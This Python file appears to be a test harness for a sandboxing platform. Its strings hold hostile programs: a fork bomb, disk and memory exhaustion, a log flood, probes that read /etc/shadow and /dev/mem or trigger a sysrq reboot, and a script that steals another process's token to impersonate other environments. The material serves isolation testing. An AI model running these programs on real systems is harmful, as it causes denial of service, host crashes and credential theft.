"""Programs of a hostile user in an environment, for `python3 -c`. Each prints what it achieved as JSON."""

from __future__ import annotations

HEAD = """
import glob, json, os, socket, sys, time
def attempt(action):
    try:
        return action() or "succeeded"
    except OSError as error:
        return error.strerror or str(error)
def say(**found):
    print(json.dumps(found), flush=True)
"""

FORK_BOMB = """
until = time.monotonic() + 8
while time.monotonic() < until:
    try:
        os.fork()
    except OSError:
        pass
"""

FILL = """
def fill(directory):
    written = 0
    with open(directory + "/filled", "wb", 0) as file:
        try:
            while written < 2000:
                file.write(bytes(1 << 20))
                written += 1
        except OSError as error:
            return written, error.strerror
    return written, ""
found = {}
for directory in sys.argv[1:]:
    found[directory] = fill(directory)
    os.unlink(directory + "/filled")
say(**found)
"""

MEMORY = """
held = []
while True:
    held.append(bytearray(1 << 20))
"""

FILES_IN_MEMORY = """
for directory in ("/dev/shm", "/tmp"):
    with open(directory + "/filled", "wb", 0) as file:
        try:
            while True:
                file.write(bytes(1 << 20))
        except OSError:
            pass
"""

OPEN_FILES = """
held = []
def use_up():
    while True:
        held.append(os.open("/dev/null", os.O_RDONLY))
reason = attempt(use_up)
os.close(held[0])
say(reason=reason, files=len(held))
"""

LOG_FLOOD = """
with open("/proc/1/fd/1", "w") as log:
    for _ in range(400_000):
        log.write("a line of a hundred letters that nobody wants to read, said again and again to fill the disk\\n")
say(done=True)
"""

LOOK_AROUND = """
DISKS = ("ext4", "xfs", "btrfs")
def words(pid):
    try:
        return open(f"/proc/{pid}/cmdline").read().replace("\\0", " ")
    except OSError:
        return ""
mounts = [line.split() for line in open("/proc/self/mounts")]
def devices(name):
    return attempt(lambda: os.mknod(name, 0o600 | 0o060000, os.makedev(8, 0)))
say(
    processes=sorted({word for pid in os.listdir("/proc") if pid.isdigit() for word in words(pid).split()
                      if word in ("master", "endpoints.robot", "containers", "dockerd", "systemd")}),
    writable=[place for _, place, kind, how, *_ in mounts if kind in DISKS and not how.startswith("ro,")],
    read_only=[place for _, place, kind, how, *_ in mounts if kind in DISKS and how.startswith("ro,")],
    sockets=[path for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock")
             if os.path.exists(path)],
    shadow=attempt(lambda: open("/etc/shadow").read()),
    memory=attempt(lambda: open("/dev/mem", "rb").read(1)),
    kernel=len(open("/proc/kcore", "rb").read(64)) if os.access("/proc/kcore", os.R_OK) else 0,
    device=devices("/tmp/disk"),
    settings=attempt(lambda: open("/proc/sys/kernel/hostname", "w").write("mine")),
    trigger=attempt(lambda: open("/proc/sysrq-trigger", "w").write("b")),
    groups=attempt(lambda: os.mkdir("/sys/fs/cgroup/memory/mine") if os.path.isdir("/sys/fs/cgroup/memory")
                   else os.mkdir("/sys/fs/cgroup/mine")),
    root=attempt(lambda: os.setuid(0)),
    namespace=attempt(lambda: os.stat("/proc/1/root/..").st_ino == os.stat("/").st_ino and "its own"),
)
"""

# Uses the socket to the Master, the only way out. argv: name of another environment.
IMPERSONATE = """
import asyncio
from pathlib import Path
from rce import __version__
from rce.control.calls.joining import Hello
from rce.control.client import connect
from rce.control.connection import Handlers
from rce.errors import RceError
from rce.process import loop
victim = sys.argv[1]
endpoint = next(pid for pid in os.listdir("/proc") if pid.isdigit()
                and "endpoints.environment" in open(f"/proc/{pid}/cmdline").read() and "tini" not in
                open(f"/proc/{pid}/cmdline").read())
variables = dict(entry.split("=", 1) for entry in open(f"/proc/{endpoint}/environ").read().split("\\0") if "=" in entry)
token, own = variables["RCE_TOKEN"], variables["RCE_NAME"]
async def join(reactor, role, name, secret):
    try:
        await asyncio.wait_for(connect(reactor, "unix:/run/rce/control.sock", Hello(role, name, secret, __version__),
                                       Handlers()), 60)
        return "joined"
    except RceError as error:
        return error.code
async def main(reactor):
    found = {}
    for role, name, secret in (
        ("environment", own, token), ("environment", victim, token), ("environment", victim, ""),
        ("environment", "admin/x", token), ("container", "machine-1", token), ("robot", "robot-1", token),
        ("master", own, token), ("environment", own, "0" * 64),
    ):
        found[f"{role} {name} {'token' if secret == token else 'guess'}"] = await join(reactor, role, name, secret)
    say(**found)
loop.run(main)
"""

# argv: HOST:PORT of the platform's listeners.
REACH = """
found = {}
for place in sys.argv[1:]:
    host, _, port = place.rpartition(":")
    found[place] = attempt(lambda: socket.create_connection((host, int(port)), 3).close())
def knock(path):
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(20)
        line.connect(os.path.basename(path))  # the whole path may be too long
        line.sendall(b"\\0" * 200)
        greeting = line.recv(1000)
        while line.recv(1000):
            pass
        return f"closed after {len(greeting)} bytes"
sockets = os.path.dirname(os.environ["RCE_SOCKET"])
os.chdir(sockets)
for path in glob.glob(sockets + "/*.sock"):
    found["own" if path == os.environ["RCE_SOCKET"] else "other"] = attempt(lambda: knock(path))
found["users"] = os.listdir(os.path.dirname(sockets))
say(**found)
"""
